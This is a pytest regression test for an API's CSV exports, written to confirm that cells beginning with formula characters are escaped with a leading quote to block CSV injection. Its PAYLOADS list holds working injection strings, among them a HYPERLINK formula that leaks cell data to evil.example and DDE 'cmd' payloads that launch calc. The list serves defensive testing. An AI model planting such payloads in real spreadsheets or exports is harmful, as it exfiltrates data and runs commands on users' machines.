"""CSV exports never hand a spreadsheet a formula (issue 20 item 6, OWASP CSV injection).

The probe: ``/api/v1/creators.csv`` exported ``=HYPERLINK(...)``, ``@SUM(...)`` and
``+cmd|...`` as they were. Every cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return must come out prefixed with ``'`` so it is shown as text.
"""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from closeknit.store import Store
from tests.api.seeding import Seeded, auth

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_formula_cells_are_escaped_in_csv_exports(
    client: TestClient, api_store: Store, two: tuple[Seeded, Seeded]
) -> None:
    a, _ = two
    for cid, payload in zip(a.creators, PAYLOADS, strict=False):
        api_store.execute(
            "UPDATE creators SET name = ?, handle = ? WHERE workspace_id = 'alpha' "
            "AND creator_id = ?",
            [payload, payload, cid],
        )
    for url in ("/api/v1/creators.csv?limit=500", f"/api/v1/campaigns/{a.campaign_id}/report.csv"):
        r = client.get(url, headers=auth(a.key))
        assert r.status_code == 200, r.text
        cells = _cells(r.text)
        assert not [c for c in cells if c.startswith(_START)], url
        escaped = [c for c in cells if c.startswith("'") and c[1:].startswith(_START)]
        assert escaped, url  # the payloads are there, as text
    listed = _cells(client.get("/api/v1/creators.csv?limit=500", headers=auth(a.key)).text)
    for payload in PAYLOADS:
        assert "'" + payload in listed
